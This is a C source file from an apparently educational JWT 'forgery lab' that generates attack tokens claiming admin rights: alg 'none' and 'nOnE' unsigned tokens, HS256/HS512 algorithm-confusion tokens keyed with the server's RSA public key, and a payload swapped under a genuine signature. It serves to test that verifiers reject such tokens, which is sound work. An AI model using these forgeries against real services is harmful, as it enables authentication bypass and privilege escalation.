/*
 * forge.c - LAB CODE: attack tokens for the forgery lab. See forge.h.
 */
#include "unsafe/forge.h"

#include <sodium.h>
#include <stdlib.h>
#include <string.h>

#include "base/buf.h"

static const char *const kind_names[FORGE_KINDS] = {
	[FORGE_TAMPERED]     = "tampered",
	[FORGE_NONE]         = "none",
	[FORGE_NONE_MIXED]   = "none_mixed",
	[FORGE_HS256_PUBKEY] = "hs256_pubkey",
	[FORGE_HS512]        = "hs512",
	[FORGE_EXPIRED]      = "expired",
	[FORGE_WRONG_AUD]    = "wrong_aud",
	[FORGE_NOT_YET_VALID] = "not_yet_valid",
};

int forge_kind_parse(const char *s)
{
	int i;

	for (i = 0; s && i < FORGE_KINDS; i++)
		if (!strcmp(s, kind_names[i]))
			return i;
	return -1;
}

const char *forge_kind_name(enum forge_kind k)
{
	return (unsigned)k < FORGE_KINDS ? kind_names[k] : "";
}

/* Append base64url (no padding) of p[0..n). */
static enum err put_b64(struct buf *b, const void *p, size_t n)
{
	size_t cap = sodium_base64_ENCODED_LEN(n,
			sodium_base64_VARIANT_URLSAFE_NO_PADDING);
	char *tmp = malloc(cap);
	enum err e;

	if (!tmp)
		return ERR_NOMEM;
	sodium_bin2base64(tmp, cap, p, n,
			  sodium_base64_VARIANT_URLSAFE_NO_PADDING);
	e = buf_puts(b, tmp);
	free(tmp);
	return e;
}

/* The claims an attacker wants: Alice, as admin, for a day. */
static json_t *wanted_claims(long long now)
{
	return json_pack("{s:s, s:s, s:s, s:I, s:I, s:I, s:s, s:s, s:s, s:s}",
			 "iss", TOKEN_ISSUER, "sub", "1", "aud", TOKEN_AUDIENCE,
			 "exp", (json_int_t)(now + 86400), "nbf",
			 (json_int_t)now, "iat", (json_int_t)now, "jti",
			 "forged", "token_use", TOKEN_USE_ACCESS, "name",
			 "Alice", "role", "admin");
}

/*
 * header.payload.signature by hand: alg as given, kid when not NULL, and
 * an HMAC (SHA-256 or SHA-512, sha512 = 1) keyed with key[0..klen), or an
 * empty signature when key is NULL.
 */
static enum err hand_made(const char *alg, const char *kid, json_t *claims,
			  const unsigned char *key, size_t klen, int sha512,
			  char **out)
{
	json_t *hdr = kid ? json_pack("{s:s, s:s, s:s}", "alg", alg, "typ",
				      "JWT", "kid", kid) :
		json_pack("{s:s, s:s}", "alg", alg, "typ", "JWT");
	char *hs = hdr ? json_dumps(hdr, JSON_COMPACT) : NULL;
	char *ps = claims ? json_dumps(claims, JSON_COMPACT | JSON_SORT_KEYS) :
		NULL;
	unsigned char mac[crypto_auth_hmacsha512_BYTES];
	struct buf b;
	enum err e = ERR_NOMEM;

	buf_init(&b);
	*out = NULL;
	if (!hs || !ps || (e = put_b64(&b, hs, strlen(hs))) ||
	    (e = buf_putc(&b, '.')) || (e = put_b64(&b, ps, strlen(ps))))
		goto out;
	if (key && sha512) {
		crypto_auth_hmacsha512_state st;

		crypto_auth_hmacsha512_init(&st, key, klen);
		crypto_auth_hmacsha512_update(&st, (unsigned char *)b.data,
					      b.len);
		crypto_auth_hmacsha512_final(&st, mac);
	} else if (key) {
		crypto_auth_hmacsha256_state st;

		crypto_auth_hmacsha256_init(&st, key, klen);
		crypto_auth_hmacsha256_update(&st, (unsigned char *)b.data,
					      b.len);
		crypto_auth_hmacsha256_final(&st, mac);
	}
	if ((e = buf_putc(&b, '.')))
		goto out;
	if (key && (e = put_b64(&b, mac, sha512 ?
				crypto_auth_hmacsha512_BYTES :
				crypto_auth_hmacsha256_BYTES)))
		goto out;
	*out = buf_steal(&b);
	e = *out ? ERR_OK : ERR_NOMEM;
out:
	free(hs);
	free(ps);
	json_decref(hdr);
	buf_cleanup(&b);
	return e;
}

/* A genuinely signed RS256 token for the fictional subject "lab", valid
 * from nbf. */
static enum err genuine(const struct token_signer *s, long long iat,
			long long nbf, long long exp, const char *aud,
			char **out)
{
	char jti[TOKEN_JTI_MAX];
	struct token_spec spec = {
		.alg = TOKEN_RS256, .sub = "lab", .name = "Lab visitor",
		.role = "user", .jti = jti, .aud = aud,
		.iat = iat, .nbf = nbf, .exp = exp,
	};

	token_random_id(jti);
	return tokensign_issue(s, &spec, out);
}

/* Replace the payload of a genuine token, keep its signature. */
static enum err tamper(const char *tok, json_t *claims, char **out)
{
	const char *d1 = strchr(tok, '.');
	const char *d2 = d1 ? strchr(d1 + 1, '.') : NULL;
	char *ps = json_dumps(claims, JSON_COMPACT | JSON_SORT_KEYS);
	struct buf b;
	enum err e = ERR_INVAL;

	buf_init(&b);
	*out = NULL;
	if (!ps || !d2)
		goto out;
	if ((e = buf_append(&b, tok, (size_t)(d1 - tok + 1))) ||
	    (e = put_b64(&b, ps, strlen(ps))) || (e = buf_puts(&b, d2)))
		goto out;
	*out = buf_steal(&b);
	e = *out ? ERR_OK : ERR_NOMEM;
out:
	free(ps);
	buf_cleanup(&b);
	return e;
}

enum err forge_token(const struct token_signer *s, enum forge_kind kind,
		     long long now, char **out)
{
	const struct token_keys *k = &s->keys;
	json_t *claims = wanted_claims(now);
	char *base = NULL;
	enum err e = ERR_INVAL;

	*out = NULL;
	if (!claims)
		return ERR_NOMEM;
	switch (kind) {
	case FORGE_TAMPERED:
		if (!(e = genuine(s, now, now, now + 300, NULL, &base)))
			e = tamper(base, claims, out);
		break;
	case FORGE_NONE:
		e = hand_made("none", NULL, claims, NULL, 0, 0, out);
		break;
	case FORGE_NONE_MIXED:
		e = hand_made("nOnE", NULL, claims, NULL, 0, 0, out);
		break;
	case FORGE_HS256_PUBKEY:
		e = hand_made("HS256", k->rs_kid, claims,
			      (const unsigned char *)k->rs_pub_pem,
			      k->rs_pub_len, 0, out);
		break;
	case FORGE_HS512:
		e = hand_made("HS512", k->rs_kid, claims,
			      (const unsigned char *)k->rs_pub_pem,
			      k->rs_pub_len, 1, out);
		break;
	case FORGE_EXPIRED:
		e = genuine(s, now - 7200, now - 7200, now - 3600, NULL, out);
		break;
	case FORGE_WRONG_AUD:
		e = genuine(s, now, now, now + 300, "urn:web-state:other-api",
			    out);
		break;
	case FORGE_NOT_YET_VALID:
		e = genuine(s, now, now + 3600, now + 7200, NULL, out);
		break;
	case FORGE_KINDS:
		break;
	}
	free(base);
	json_decref(claims);
	return e;
}
